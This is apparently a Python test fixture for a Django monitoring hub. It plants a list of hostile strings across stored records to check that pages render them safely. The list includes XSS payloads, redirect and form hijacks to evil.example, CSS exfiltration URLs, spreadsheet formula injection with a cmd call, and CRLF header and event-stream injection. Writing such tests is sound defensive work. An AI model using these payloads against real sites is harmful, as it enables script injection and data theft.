"""Hostile texts, and fleets that say nothing else: each of them comes to stand in every text of the wire.

The documents are made from the schemas of the API's description, so that a new member of the contract is planted by
itself. A payload is one line of PAYLOADS. Of each there is a plain twin: a page must be made of the same elements
whichever of the two stands in it.
"""

import json
import re
from collections.abc import Iterator, Mapping, Sequence
from datetime import datetime, timedelta
from itertools import cycle, islice
from typing import Any

from django.db import transaction
from tests.build import record, record_all_events

from felhom_hub.base.db import Db
from felhom_hub.base.instants import rfc3339
from felhom_hub.base.models import Job
from felhom_hub.base.pace import AT_ONCE
from felhom_hub.configs.save import Entered, create_config
from felhom_hub.configs.settings import Settings
from felhom_hub.customers.details import Details
from felhom_hub.customers.models import Credential, Customer, KeyUse
from felhom_hub.events.payload import read_event
from felhom_hub.events.record import HubEvent, IncomingEvent, record_hub_events
from felhom_hub.notify.models import Delivery
from felhom_hub.operators.audit import Actor, record_audit
from felhom_hub.operators.sessions import open_session
from felhom_hub.project.openapi.intake import SCHEMAS
from felhom_hub.recovery.record import Arrival, incoming_backup, record_backups
from felhom_hub.reports.record import incoming_report
from felhom_hub.silences.models import Silence
from felhom_hub.silences.record import Entered as Silenced
from felhom_hub.silences.record import make_silence
from felhom_hub.silences.recurrence import Schedule
from felhom_hub.telemetry.summarise import summarise
from felhom_hub.telemetry.unread import read_unread
from felhom_hub.watch.models import Incident, IncidentNode, NodeLevel

# The texts that turn the order of what stands beside them: with override characters, with isolates closed once too
# often, and by their letters alone.
TURNING = ("\u202egnp.exe 7", "\u2067\u05d0 5\u2069\u2069\u2069\u202d\u202e", "\u05e9\u05dc\u05d5\u05dd 3 (\u05d0)")
PAYLOADS = (
    # HTML
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1>",
    "</textarea></title></style></script><script>window.ran=1</script>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<base href=//evil.example><form action=//evil.example><input name=_csrf>",
    "<!--<script>window.ran=1//-->",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details open ontoggle=window.ran=1><a href=javascript:window.ran=1>x</a>",
    # attributes
    '" onmouseover="window.ran=1" autofocus onfocus="window.ran=1',
    "' onclick='window.ran=1' x='",
    "` onload=window.ran=1 `",
    "&quot; &#34; &lt;script&gt;window.ran=1&lt;/script&gt;",
    # addresses
    "javascript:window.ran=1",
    "data:text/html,<script>parent.ran=1</script>",
    "//evil.example/x.js",
    "https://evil.example/?q=<b>#@evil.example",
    "mailto:a@evil.example?bcc=b@evil.example",
    "../../configuration/../%2e%2e/..\\",
    # styles
    "</style><style>body{background:url(//evil.example)}",
    "x;background:url(//evil.example/a);position:fixed;inset:0",
    # templates and scripts of the front end
    "{{ request.operator.csrf_token }}{% debug %}{id} %s %(x)s",
    "${window.ran=1}#{window.ran=1}",
    "\u2028\u2029'-window.ran=1-'\\u003cscript\\u003e",
    "hx-on:load=window.ran=1 hx-get=//evil.example",
    # formulas
    '=HYPERLINK("//evil.example";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # lines of their own: in a log, in a header, in a stream of events
    "a\r\nSet-Cookie: hub_session=b\r\n\r\nevent: fleet\ndata: {}\n\n",
    # what some stores and readers stumble over
    "nul \x00, lone \ud800, bell \x07, escape \x1b[31m",
    *TURNING,
    # without a place to break, and without end
    "x" * 10_000,
    "Z\u0351\u0300\u0301\u0302\u0303" * 1_600,
)  # fmt: skip
# As long, with spaces and ends of lines at the same places, and with the one word that means something to a page: a
# controller's sentence that says "load" leads to the system's section.
TWINS = tuple(
    f"q{number:02}"
    + re.sub(r"load|\s|.", lambda found: found[0] if found[0].isspace() or found[0][1:] else "w", text[3:])
    for number, text in enumerate(PAYLOADS)
)
ROTATIONS = range(len(PAYLOADS))
# The customers that a rotation makes: managed and reporting, reporting with words that are all wrong, not reporting.
KINDS = ("shown", "odd", "quiet")
JOB = "operators.clean_up_sign_ins"


def turned(texts: Sequence[str], by: int) -> Iterator[str]:
    """The texts without end, from that one on."""
    return islice(cycle(texts), by, None)


def document_of(schema: Mapping[str, Any], texts: Iterator[str], now: datetime, *, is_sorted: bool) -> Any:
    """What the schema describes, with the next text for each text; where `is_sorted`, its words and times are right."""
    kind = schema["type"]
    if kind == "object":
        named = {
            name: document_of(each, texts, now, is_sorted=is_sorted)
            for name, each in schema.get("properties", {}).items()
        }
        unknown = next(texts)
        return {**named, unknown[:200]: unknown}
    if kind == "array":
        # One that is shown in its place, and one whose words are all wrong.
        ways = dict.fromkeys((is_sorted, False))
        return [document_of(schema["items"], texts, now, is_sorted=each) for each in ways]
    if kind == "string":
        text = next(texts)
        return _sorting(schema, now) or text if is_sorted else text
    return True if kind == "boolean" else 97


def _sorting(schema: Mapping[str, Any], now: datetime) -> str:
    """The last of its words, which is the worst, or a time; empty where any text will do."""
    if schema.get("format") == "date-time":
        return rfc3339(now) or ""
    return schema["enum"][-1] if "enum" in schema else ""


def line_of(text: str, most: int) -> str:
    """As much of the text as a form's one-line field takes."""
    return "".join(letter for letter in text if letter.isprintable())[:most].strip()


def plant(texts: Sequence[str], rotations: Sequence[int], now: datetime) -> None:
    """A fleet that says them is stored: of each rotation one customer of each of KINDS, with the id KIND-ROTATION."""
    for by in rotations:
        actor = Actor(line_of(texts[by], 100), line_of(texts[by], 45))
        for kind in KINDS:
            customer_id, said = f"{kind}-{by}", turned(texts, by)
            if kind != "odd":
                create_config(customer_id, _entered(said), now=now - timedelta(hours=1), by=actor)
            if kind != "quiet":
                _report(customer_id, said, now, is_sorted=kind == "shown")
            if kind == "shown":
                _snapshots(customer_id, said, actor, now)
                KeyUse.objects.create(credential_id=key_of(by), used_at=now, address=actor.address)
        _remember(texts[by], actor, now)
        _silence(by, texts[by], actor, now)
        _tell_of(by, turned(texts, by), now)
    read_unread(10_000, AT_ONCE)
    summarise(now)
    Job.objects.update_or_create(name=JOB, defaults={"next_at": now, "last_error": texts[rotations[0]]})


def numbers_of(by: int) -> tuple[list[int], int]:
    """The numbers of the rotation's events that were told, and of its incident."""
    incident = Incident.objects.get(members__customer__customer_id=f"shown-{by}")
    told = Delivery.objects.exclude(answer="").filter(customer__customer_id__in=(f"shown-{by}", f"odd-{by}"))
    return list(told.order_by("event_id").values_list("event_id", flat=True).distinct()), incident.pk


def key_of(by: int) -> int:
    """The number of an API key of the rotation's, which was used from an address of its words."""
    return Credential.objects.get(customer__customer_id=f"shown-{by}", kind="api_key").pk


def silence_of(by: int) -> int:
    """The number of the rotation's silence that holds."""
    return Silence.objects.filter(customers__customer__customer_id=f"shown-{by}").order_by("pk")[0].pk


def _tell_of(by: int, texts: Iterator[str], now: datetime) -> None:
    """Who reports is in an incident, and of the newest event of each somebody was told, with these words."""
    texts = (text.replace("\x00", "").replace("\ud800", "") for text in texts)
    incident = Incident.objects.create(
        opened_at=now, silent_since_at=now, from_at=now, until_at=now, nodes=2, fleet=9, trait=next(texts)[:400]
    )
    for customer in Customer.objects.filter(customer_id__in=(f"shown-{by}", f"odd-{by}")).order_by("pk"):
        NodeLevel.objects.create(customer=customer, level="stale", since_at=now, heard_at=now, is_told=True)
        IncidentNode.objects.create(incident=incident, customer=customer, heard_at=now, joined_at=now)
        details = json.dumps({"incident": incident.pk, next(texts)[:20]: next(texts)[:80]})
        said = HubEvent(customer.pk, "node_stale", "warning", next(texts), details)
        with transaction.atomic():
            record_hub_events(Db(), [said], now=now)
        told = Delivery.objects.filter(customer=customer, event_type="node_stale")
        for audience, result in (("operator", "failed"), ("customer", "skipped")):
            told.filter(audience=audience).update(
                result=result, attempts=2, recipient=next(texts)[:320], reason=next(texts)[:200],
                answer=next(texts)[:500], ended_at=now,
                inputs=json.dumps({"severity": "warning", "provider": next(texts), "acknowledged": next(texts)}),
            )  # fmt: skip


def _silence(by: int, text: str, actor: Actor, now: datetime) -> None:
    """The text is the reason of a silence of the rotation's customers, that holds, and of one that is over."""
    customers = dict(Customer.objects.filter(customer_id__endswith=f"-{by}").values_list("pk", "customer_id"))
    for until_at in (now + timedelta(hours=9), now - timedelta(hours=1)):
        schedule = Schedule(now - timedelta(hours=2), until_at)
        why = line_of(text, 120)
        make_silence(Silenced(why, customers, "", ("test",), False, schedule), now=now, by=actor)


def _snapshots(customer_id: str, texts: Iterator[str], actor: Actor, now: datetime) -> None:
    """The second of two snapshots has other keys than the first, and somebody has fetched it."""
    for keys in (list(islice(texts, 3)), list(islice(texts, 3))):
        part = {keys[0]: 1, keys[1]: {keys[2]: 2}}
        body = json.dumps({"customer_id": customer_id, "disk_layout": part, f" {keys[0]}": part}).encode()
        with transaction.atomic():
            record_backups(Db(), [Arrival(incoming_backup(body), now, None)])
    detail = next(texts).replace("\x00", "").replace("\ud800", "")
    record_audit("infra_backup_fetched", by=actor, now=now, customer_id=customer_id, detail=detail)


def _entered(texts: Iterator[str]) -> Entered:
    name, town, phone, note, more = (line_of(next(texts), most) for most in (200, 100, 50, 4000, 500))
    return Entered(Details(name, "a.hu", "a@a.hu", town, phone, note), Settings(overrides=f"# {more}\n"))


def _report(customer_id: str, texts: Iterator[str], now: datetime, *, is_sorted: bool) -> None:
    document = document_of(SCHEMAS["Report"], texts, now, is_sorted=is_sorted)
    document |= {"customer_id": customer_id, "monitoring_paused": False}
    record([incoming_report(json.dumps(document).encode(), now, key_digest=None)])
    record_all_events(_events(customer_id, texts, now))


def _events(customer_id: str, texts: Iterator[str], now: datetime) -> list[IncomingEvent]:
    documents = []
    for _ in range(3):
        event = document_of(SCHEMAS["Event"], texts, now, is_sorted=True)
        documents += [event, {**event, "details_json": None, "details": {next(texts)[:200]: [next(texts)]}}]
    facts = (
        read_event({**event, "event_type": "odd_things"}, customer_id=customer_id, strict_types=False)
        for event in documents
    )
    return [IncomingEvent(each, now, None) for each in facts]


def _remember(text: str, actor: Actor, now: datetime) -> None:
    """The text is in the audit, and is a browser that has signed in."""
    stored = text.replace("\x00", "").replace("\ud800", "")
    record_audit(stored[:64], by=actor, now=now, customer_id=stored[:128], detail=stored)
    open_session(password_hash="hash of nobody", address=actor.address, user_agent=stored[:300], now=now)
